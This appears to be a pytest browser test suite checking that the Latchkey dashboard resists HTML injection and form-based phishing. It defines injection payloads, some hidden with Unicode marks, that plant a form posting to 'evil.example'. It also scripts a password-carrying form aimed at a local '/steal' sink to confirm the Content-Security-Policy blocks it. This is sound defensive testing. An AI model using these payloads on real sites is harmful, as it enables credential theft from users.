"""The dashboard cannot be turned into a phishing page (issue 14, items 1-3), in headless Chromium: hostile values
in every reflected and stored sink render no element, whatever Unicode marks hide their quotes and brackets, and
the Content-Security-Policy refuses a form that posts anywhere but Latchkey."""

from __future__ import annotations

import re
import time
from urllib.parse import quote

import pytest
import requests

from browser import signed_in
from harness import Latchkey

PAYLOADS = {
    "plain": '"><img id=injected src=x><form id=injected-form action=//evil.example>',
    "combining": '"\u0301><img id=injected src=x>\u0301<form id=injected-form action=//evil.example>',
    "prefixed": "\u0600<img id=injected src=x>\u0600<form id=injected-form action=//evil.example>",
}


def _clean(b, lk: Latchkey, where: str):
    assert not b.exists("#injected") and not b.exists("#injected-form"), (
        f"{where}: an injected element rendered\n{b.describe()}"
    )
    assert b.current_url.startswith(lk.public_url), f"{where}: left Latchkey's origin for {b.current_url}"


@pytest.mark.parametrize("kind", sorted(PAYLOADS))
def test_reflected_sinks_render_no_element(dashboard_factory, browser_factory, kind):
    lk = dashboard_factory()
    p = quote(PAYLOADS[kind], safe="")
    b = signed_in(browser_factory, lk)
    for path in (
        f"/providers?q={p}",
        f"/credentials/new?q={p}",
        f"/oauth/callback?state=x&error={p}&error_description={p}",
        f"/activity?before={p}",
    ):
        b.go(path, f"{kind}-{path.split('?')[0]}")
        _clean(b, lk, path)
    anonymous = browser_factory(base=lk.public_url, suffix="anon")
    anonymous.go(f"/login?next={p}", f"{kind}-login")
    _clean(anonymous, lk, "/login?next=")
    assert anonymous.find('input[name="next"]').get_attribute("value") == "/credentials", (
        "next is rendered only once it is same-origin"
    )


@pytest.mark.parametrize("kind", sorted(PAYLOADS))
def test_the_setup_page_reflects_no_element_while_no_user_exists(dashboard_factory, browser_factory, kind):
    lk = dashboard_factory(admin=False)
    b = browser_factory(base=lk.public_url)
    b.go("/setup?token=" + quote(PAYLOADS[kind], safe=""), f"setup-{kind}")
    _clean(b, lk, "/setup?token=")


def test_a_hostile_forwarded_for_on_a_failed_sign_in_plants_nothing_in_the_victims_activity(
    dashboard_factory, browser_factory
):
    # Even behind a trusted proxy (so the header is read at all), a client address is an address or nothing.
    lk = dashboard_factory(extra_env={"LATCHKEY_TRUSTED_PROXIES": "127.0.0.1"})
    for payload in PAYLOADS.values():
        s = requests.Session()
        csrf = re.search(r'name="csrf" value="([^"]+)"', s.get(lk.url("/login"), timeout=30).text).group(1)
        r = s.post(
            lk.url("/login"),
            data={"csrf": csrf, "email": Latchkey.ADMIN_EMAIL, "password": "wrong-password-x", "next": "/"},
            headers={"X-Forwarded-For": payload.encode("utf-8").decode("latin-1")},
            allow_redirects=False,
            timeout=60,
        )
        assert r.status_code == 401, r.status_code
    b = signed_in(browser_factory, lk)
    b.go("/activity", "activity")
    _clean(b, lk, "/activity")
    assert "sign_in_failed" in b.html or "sign-in" in b.html.lower(), "the failures are listed"


def test_the_policy_refuses_a_form_posting_to_another_origin(dashboard_factory, browser_factory, sink):
    lk = dashboard_factory()
    for path in ("/login", "/oauth/callback?state=x"):
        r = requests.get(lk.url(path), timeout=30, allow_redirects=False)
        policy = r.headers.get("Content-Security-Policy", "")
        assert "form-action 'self';" in policy and not re.search(r"(^|\s)https?:(\s|;|$)", policy), policy
    b = signed_in(browser_factory, lk)
    b.go("/credentials", "credentials")
    b.js(
        """
        const f = document.createElement('form');
        f.method = 'post'; f.action = arguments[0];
        const i = document.createElement('input');
        i.name = 'password'; i.value = 'typed-by-the-victim'; f.appendChild(i);
        document.body.appendChild(f); f.submit();
    """,
        f"http://127.0.0.1:{sink.port}/steal",
    )
    time.sleep(1.5)
    # Chromium may open a connection speculatively; what matters is that no request (no byte) was sent.
    assert not any(data for _, data in sink.hits), f"the form reached another origin: {sink.hits}"
    assert b.current_url.startswith(lk.public_url), b.current_url
